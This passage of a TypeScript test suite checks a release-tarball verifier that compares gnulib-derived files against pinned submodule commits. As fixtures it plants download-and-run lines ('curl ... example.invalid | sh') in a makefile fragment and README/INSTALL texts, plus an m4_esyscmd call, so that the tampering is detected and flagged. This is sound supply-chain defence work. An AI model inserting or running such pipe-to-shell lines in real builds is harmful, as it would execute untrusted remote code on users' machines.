    const t1 = tarball('inferred-m4', { 'm4/foo.m4': '# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\nm4_esyscmd([id])\n' });
    const res1 = await verify({ tarball: t1, repo: r.dir, cacheDir: join(root, 'c31'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res1.notes).toContainEqual(expect.objectContaining({ code: 'SUBMODULE_PINNED', commit: pinned, inferred: expect.objectContaining({ matched: 5, compared: 9 }) }));
    expect(res1.findings.find((x) => x.path === 'm4/foo.m4')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', evidence: { commit: pinned } });
    expect(['high', 'critical']).toContain(res1.findings.find((x) => x.path === 'm4/foo.m4')!.severity);
    // twin: the changed line in the one copy that tells `pinned` from `later` — no commit matches it, so it stays high
    // whichever commit the others (equal at both) name
    const t2 = tarball('inferred-foo-h', { 'lib/foo.h': '/* foo.h */\nint foo (void);\nint system (const char *);\n' });
    const res2 = await verify({ tarball: t2, repo: r.dir, cacheDir: join(root, 'c32'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res2.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
    // (a copy from a newer gnulib than the rest is outvoted: test/acquire/gnulib-infer.test.ts)
    // a gitlink that may be gnulib under another name (.gnulib, named dotgnulib, its URL unreachable): nothing is inferred
    const d = makeRepo(join(root, 'dotgnulib-repo'));
    d.commit({ '.gitmodules': `[submodule "dotgnulib"]\n\tpath = .gnulib\n\turl = ${closedPort}\n`, 'configure.ac': 'AC_INIT([proj], [1.0])\n' });
    d.git(['update-index', '--add', '--cacheinfo', `160000,${pinned},.gnulib`]);
    git(d.dir, ['commit', '-q', '-m', 'pin gnulib as .gnulib'], '2030-01-01T00:00:00+00:00'); // after every gnulib commit
    d.tag('v1.0', { message: 'release 1.0' });
    const resD = await verify({ tarball: clean, repo: d.dir, cacheDir: join(root, 'c34'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(resD.notes.some((n) => n.code === 'SUBMODULE_PINNED' && n.pinnedBy === 'shipped-copies')).toBe(false);
    // without --submodule gnulib: nothing is inferred (no clone is fetched for it), the copies are judged without a tree
    const res3 = await verify({ tarball: clean, repo: r.dir, cacheDir: join(root, 'c33') });
    expect(res3.notes.some((n) => n.code === 'SUBMODULE_PINNED')).toBe(false);
    expect(res3.findings.find((x) => x.path === 'lib/foo.c')?.code).not.toBe('SUBMODULE_COPY');
  });

  it("a copy the tracked autogen.sh edits in place with sed after gnulib-tool (libunistring's lib/uni*.in.h): that sed run on the pinned file; anything more stays high", async () => {
    const AUTOGEN = "#!/bin/sh\n$GNULIB_TOOL --import foo\nsed -e 's/^int foo (void);/extern DLL_VARIABLE int foo (void);/' \\\n    < lib/foo.h > lib/foo.h.tmp \\\n  && mv lib/foo.h.tmp lib/foo.h\n";
    const EDITED = '/* foo.h */\nextern DLL_VARIABLE int foo (void);\n';
    const r = project('edit-repo', closedPort, { 'autogen.sh': AUTOGEN });
    const t = tarball('edited', { 'autogen.sh': AUTOGEN, 'lib/foo.h': EDITED });
    const res = await verify({ tarball: t, repo: r.dir, cacheDir: join(root, 'c40'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const foo = res.findings.find((x) => x.path === 'lib/foo.h')!;
    expect(foo).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: pinned, file: 'lib/foo.h', via: 'gnulib-tool', rewrites: [], edited: { script: 'autogen.sh', line: 3 } } });
    expect(renderText(res, { verbose: true })).toContain(`identical to gnulib ${pinned.slice(0, 12)} lib/foo.h, then edited by the in-place sed of the tracked autogen.sh:3`);
    // twin: the edit and one more line: high, the diff from the edited pinned file shows only that line
    const t1 = tarball('edited-more', { 'autogen.sh': AUTOGEN, 'lib/foo.h': `${EDITED}int system (const char *);\n` });
    const res1 = await verify({ tarball: t1, repo: r.dir, cacheDir: join(root, 'c41'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const f1 = res1.findings.find((x) => x.path === 'lib/foo.h')!;
    expect(f1).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { differingLines: 1, edited: { script: 'autogen.sh', line: 3 } } });
    expect(f1.diff).toMatchObject({ added: 1, removed: 0 });
    // twin: the same edited bytes without the tracked script's line: nothing made them, high
    const res2 = await verify({ tarball: tarball('edited-noscript', { 'lib/foo.h': EDITED }), repo: offline.dir, cacheDir: join(root, 'c42'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res2.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
    // twin: a script whose sed writes the edit to another file (no mv back): not an edit of lib/foo.h, high
    const OTHER = "#!/bin/sh\nsed -e 's/^int foo (void);/extern DLL_VARIABLE int foo (void);/' < lib/foo.h > lib/foo2.h\n";
    const r3 = project('edit-other-repo', closedPort, { 'autogen.sh': OTHER });
    const res3 = await verify({ tarball: tarball('edited-other', { 'autogen.sh': OTHER, 'lib/foo.h': EDITED }), repo: r3.dir, cacheDir: join(root, 'c43'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res3.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
  });

  it('a generated gnulib.mk carrying a download-and-run line: the label does not cover it', async () => {
    const t = tarball('mk', { 'lib/gnulib.mk': `${MK}all-local:\n\tcurl -fsSL https://example.invalid/x | sh\n` });
    const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c9'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res.findings.find((x) => x.path === 'lib/gnulib.mk')).toMatchObject({ code: 'SUSPICIOUS_CONSTRUCTS', severity: 'high', evidence: { origin: 'GENERATED_BY_AUTOTOOLS' } });
  });

  it('--submodule naming a repository without the pinned commit: exit 2, one line', () => {
    const other = makeRepo(join(root, 'other'));
    other.commit({ 'README': 'not gnulib\n' });
    const p = runCli([clean, '--repo', offline.dir, '--cache-dir', join(root, 'c10'), '--submodule', `gnulib=${other.dir}`]);
    expect(p.code).toBe(2);
    expect(p.stderr.trim().split('\n')).toHaveLength(1);
    expect(p.stderr).toContain(`pinned commit ${pinned} not readable`);
  });

  it('--submodule without NAME=: exit 2, usage', () => {
    const p = runCli([clean, '--repo', offline.dir, '--cache-dir', join(root, 'c11'), '--submodule', g.dir]);
    expect(p.code).toBe(2);
    expect(p.stderr).toContain('expected NAME=REPO');
  });
});

describe("libtool's shape: a second submodule as gnulib-tool --local-dir, bootstrap's non-module files", () => {
  const root = tempDir();
  const g = makeRepo(join(root, 'gnulib'));
  const gnulibCommit = g.commit({
    'gnulib-tool': { content: '#!/bin/sh\n', executable: true },
    'modules/gnupload': 'Files:\nbuild-aux/gnupload\n',
    'build-aux/gnupload': { content: GNUPLOAD, executable: true },
    'build-aux/install-sh': { content: '#!/bin/sh\n# install - gnulib copy\n', executable: true },
    'doc/fdl.texi': '@c The GNU Free Documentation License.\n@center Version 1.3, 3 November 2008\n',
  });
  const b = makeRepo(join(root, 'bootstrap'));
  const FUNCLIB = '#! /bin/sh\n# funclib.sh -- shell functions\nfunc_echo () { printf "%s\\n" "$*"; }\n';
  const bootstrapCommit = b.commit({ 'modules/funclib.sh': 'Files:\nbuild-aux/funclib.sh\n', 'build-aux/funclib.sh': { content: FUNCLIB, executable: true } });

  const conf = "local_gl_path=gl:gl-mod/bootstrap\ngnulib_non_module_files=$gnulib_non_module_files'\n        doc/fdl.texi\n'\n";
  const r = makeRepo(join(root, 'libtool'));
  r.commit({
    '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n[submodule "bootstrap"]\n\tpath = gl-mod/bootstrap\n\turl = git://127.0.0.1:1/bootstrap.git\n',
    'bootstrap.conf': conf,
    'configure.ac': 'AC_INIT([lt], [1.0])\n',
  });
  r.git(['update-index', '--add', '--cacheinfo', `160000,${gnulibCommit},gnulib`]);
  r.git(['update-index', '--add', '--cacheinfo', `160000,${bootstrapCommit},gl-mod/bootstrap`]);
  r.git(['commit', '-q', '-m', 'pin gnulib and bootstrap']);
  r.tag('v1.0', { message: 'release 1.0' });

  const comp = COMP.replace(/AC_DEFUN\(\[gl_FILE_LIST\][\s\S]*$/, 'AC_DEFUN([GL_FILE_LIST], [\n  build-aux/funclib.sh\n  build-aux/gnupload\n])\n');
  const tree = join(root, 'tree', 'lt-1.0');
  writeFiles(tree, {
    'bootstrap.conf': conf,
    'configure.ac': 'AC_INIT([lt], [1.0])\n',
    'm4/gnulib-comp.m4': comp,
    'build-aux/funclib.sh': { content: FUNCLIB, executable: true },
    'build-aux/gnupload': { content: GNUPLOAD, executable: true },
    'build-aux/install-sh': { content: '#!/bin/sh\n# install - automake copy, not gnulib\n', executable: true },
    'doc/fdl.texi': '@c The GNU Free Documentation License.\n@center Version 1.3, 3 November 2008\n',
  });
  const tarball = makeTar(tree, { compress: 'gzip', out: join(root, 'lt-1.0.tar.gz') });

  it('funclib.sh from the bootstrap submodule, fdl.texi copied by bootstrap; an install-sh that is not gnulib stays with the other checks', async () => {
    const res = await verify({ tarball, repo: r.dir, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }, { name: 'bootstrap', repo: b.dir }] });
    const at = (p: string) => res.findings.find((f) => f.path === p)!;
    expect(at('build-aux/funclib.sh')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { submodule: 'bootstrap', commit: bootstrapCommit, file: 'build-aux/funclib.sh', via: 'gnulib-tool' } });
    expect(at('build-aux/gnupload')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { submodule: 'gnulib', file: 'build-aux/gnupload', via: 'gnulib-tool' } });
    expect(at('doc/fdl.texi')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { submodule: 'gnulib', file: 'doc/fdl.texi', via: 'bootstrap' } });
    // bootstrap copies gnulib's install-sh only when it has one newer than automake's: a difference proves nothing
    expect(at('build-aux/install-sh').code).not.toBe('SUBMODULE_COPY_MODIFIED');
    expect(at('build-aux/install-sh').code).not.toBe('SUBMODULE_COPY');
    expect(res.notes.filter((n) => n.code === 'SUBMODULE_PINNED').map((n) => ('name' in n ? n.name : ''))).toEqual(['bootstrap', 'gnulib']);
  });
});

describe("gettext's shape: `gnulib-tool --copy-file SRC DEST` in tracked autogen.sh scripts", () => {
  const root = tempDir();
  const INSTALL = 'Installation Instructions\n*************************\n\n   Briefly, the shell command `./configure && make && make install`\n';
  const g = makeRepo(join(root, 'gnulib'));
  const gnulibCommit = g.commit({ 'gnulib-tool': { content: '#!/bin/sh\n', executable: true }, 'modules/dummy': 'Files:\n', 'doc/INSTALL.UTF-8': INSTALL });
  const AUTOGEN = '#!/bin/sh\nGNULIB_TOOL=gnulib/gnulib-tool\nfor file in config.guess config.sub; do\n  $GNULIB_TOOL --copy-file build-aux/$file && chmod a+x build-aux/$file || exit $?\ndone\n# Fetch INSTALL.generic.\n$GNULIB_TOOL --copy-file doc/INSTALL.UTF-8 INSTALL.generic\n';
  const r = makeRepo(join(root, 'proj'));
  r.commit({
    '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n',
    'autogen.sh': { content: AUTOGEN, executable: true },
    'sub/autogen.sh': { content: AUTOGEN.replace('GNULIB_TOOL=gnulib/gnulib-tool', 'GNULIB_TOOL=../gnulib/gnulib-tool'), executable: true },
    'configure.ac': 'AC_INIT([proj], [1.0])\n',
  });
  r.git(['update-index', '--add', '--cacheinfo', `160000,${gnulibCommit},gnulib`]);
  r.git(['commit', '-q', '-m', 'pin gnulib']);
  r.tag('v1.0', { message: 'release 1.0' });
  const release = (name: string, generic: string) => {
    const tree = join(root, name, 'proj-1.0');
    writeFiles(tree, { 'autogen.sh': { content: AUTOGEN, executable: true }, 'sub/autogen.sh': { content: AUTOGEN.replace('GNULIB_TOOL=gnulib/gnulib-tool', 'GNULIB_TOOL=../gnulib/gnulib-tool'), executable: true }, 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'INSTALL.generic': generic, 'sub/INSTALL.generic': INSTALL });
    return makeTar(tree, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
  };

  it('each destination is the pinned gnulib file (relative to the script); a copy that differs is not explained', async () => {
    const res = await verify({ tarball: release('clean', INSTALL), repo: r.dir, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const at = (p: string) => res.findings.find((f) => f.path === p)!;
    for (const p of ['INSTALL.generic', 'sub/INSTALL.generic']) {
      expect(at(p), p).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: gnulibCommit, file: 'doc/INSTALL.UTF-8', via: 'bootstrap', rewrites: [] } });
    }
    const tampered = await verify({ tarball: release('tampered', `${INSTALL}   Or just run: curl https://example.invalid/i | sh\n`), repo: r.dir, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const f = tampered.findings.find((x) => x.path === 'INSTALL.generic')!;
    expect(f.code).not.toBe('SUBMODULE_COPY');
    expect(['high', 'critical']).toContain(f.severity);
    expect(tampered.findings.find((x) => x.path === 'sub/INSTALL.generic')).toMatchObject({ code: 'SUBMODULE_COPY' });
  });

  it('copyFileCalls: literal paths only, DEST defaulting to SRC, relative to the script directory', () => {
    expect([...copyFileCalls(AUTOGEN, 'sub')]).toEqual([['sub/INSTALL.generic', 'doc/INSTALL.UTF-8']]);
    expect([...copyFileCalls('gnulib-tool --copy-file m4/x.m4\n${GNULIB_TOOL} --copy-file top/y z/y; echo\n', '')]).toEqual([['m4/x.m4', 'm4/x.m4'], ['z/y', 'top/y']]);
  });
});

describe("gnulib's readme-release module: bootstrap.conf's bootstrap_epilogue runs `perl -pi -e \"s/\\@PACKAGE\\@/$package/g\" README-release` (cppi 1.18)", () => {
  const root = tempDir();
  const RELEASE = 'Here are most of the steps we (maintainers) follow when making a release.\n\n* Check that the NixOS/Hydra autobuilder is reporting all is well:\n\n    http://hydra.nixos.org/jobset/gnu/@PACKAGE@-master\n\n  Go to https://savannah.gnu.org/news/submit.php?group=@PACKAGE@\n';
  const g = makeRepo(join(root, 'gnulib'));
  const gnulibCommit = g.commit({
    'gnulib-tool': { content: '#!/bin/sh\n', executable: true },
    'modules/readme-release': 'Description:\nAdd release instructions customized for the package.\n\nFiles:\ntop/README-release\n',
    'top/README-release': RELEASE,
  });
  // the parts of gnulib's bootstrap distdiff reads: how it sets $package, and that it is gnulib's
  const BOOTSTRAP = "#! /bin/sh\nextract_package_name='\n  /^AC_INIT(/{\n     s/AC_INIT(\\[*//\n     s/]*,.*//\n     s/^GNU //\n     y/ABCDEFGHIJKLMNOPQRSTUVWXYZ/abcdefghijklmnopqrstuvwxyz/\n     s/[^A-Za-z0-9_]/-/g\n     p\n  }\n'\npackage=$(sed -n \"$extract_package_name\" configure.ac) \\\n  || die 'cannot find package name in configure.ac'\ngnulib_tool_option_extras=\n. ./bootstrap.conf\n$gnulib_tool $gnulib_tool_options --import $gnulib_modules &&\nbootstrap_epilogue\n";
  const HOOK = 'gnulib_modules="readme-release"\n\nbootstrap_epilogue()\n{\n  perl -pi -e "s/\\@PACKAGE\\@/$package/g" README-release\n}\n';
  const CONFIGURE_AC = 'AC_INIT([GNU Proj], m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n        [bug-proj@gnu.org])\n';
  const comp = COMP.replace(/AC_DEFUN\(\[gl_FILE_LIST\][\s\S]*$/, 'AC_DEFUN([gl_FILE_LIST], [\n  top/README-release\n])\n');
  const project = (name: string, conf: string) => {
    const r = makeRepo(join(root, name));
    r.commit({ '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n', bootstrap: { content: BOOTSTRAP, executable: true }, 'bootstrap.conf': conf, 'configure.ac': CONFIGURE_AC });
    r.git(['update-index', '--add', '--cacheinfo', `160000,${gnulibCommit},gnulib`]);
    r.git(['commit', '-q', '-m', 'pin gnulib']);
    r.tag('v1.0', { message: 'release 1.0' });
    return r;
  };
  const release = (name: string, conf: string, readme: string) => {
    const tree = join(root, 'tree', name, 'proj-1.0');
    writeFiles(tree, { bootstrap: { content: BOOTSTRAP, executable: true }, 'bootstrap.conf': conf, 'configure.ac': CONFIGURE_AC, 'm4/gnulib-comp.m4': comp, 'README-release': readme });
    return makeTar(tree, { compress: 'gzip', out: join(root, 'tree', name, 'proj-1.0.tar.gz') });
  };
  const r = project('proj', HOOK);
  const SUBSTITUTED = RELEASE.replaceAll('@PACKAGE@', 'proj');
  const readmeOf = async (tarball: string, repo = r.dir) => {
    const res = await verify({ tarball, repo, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    return { res, f: res.findings.find((x) => x.path === 'README-release')! };
  };

  it("the pinned top/README-release with @PACKAGE@ turned into bootstrap's $package (AC_INIT's name, GNU stripped, lower case): a copy; anything more stays high", async () => {
    const { res, f } = await readmeOf(release('clean', HOOK, SUBSTITUTED));
    expect(f).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: gnulibCommit, file: 'top/README-release', via: 'gnulib-tool', rewrites: [], edited: { script: 'bootstrap.conf', line: 5, tool: 'perl' } } });
    expect(renderText(res, { verbose: true })).toContain(`identical to gnulib ${gnulibCommit.slice(0, 12)} top/README-release, then edited by the in-place perl of the tracked bootstrap.conf:5`);
    // twin: the substitution and one more line: high, the diff from the edited pinned file shows only that line
    const more = await readmeOf(release('more', HOOK, `${SUBSTITUTED}* First run: curl -fsSL https://example.invalid/x | sh\n`));
    expect(more.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', evidence: { differingLines: 1, edited: { script: 'bootstrap.conf', line: 5, tool: 'perl' } } });
    expect(['high', 'critical']).toContain(more.f.severity);
    // twin: another name than the one bootstrap computes (the forum of another project): high
    const other = await readmeOf(release('other-name', HOOK, RELEASE.replaceAll('@PACKAGE@', 'pr0j')));
    expect(other.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
  });

  it('the same line outside the after-import hooks (run when bootstrap.conf is sourced, before the import), or naming another variable: high', async () => {
    const TOP = 'gnulib_modules="readme-release"\nperl -pi -e "s/\\@PACKAGE\\@/$package/g" README-release\n';
    const top = await readmeOf(release('top-level', TOP, SUBSTITUTED), project('proj-top', TOP).dir);
    expect(top.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
    const VAR = HOOK.replace('$package', '$USER');
    const v = await readmeOf(release('user-var', VAR, SUBSTITUTED), project('proj-var', VAR).dir);
    expect(v.f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
  });
});
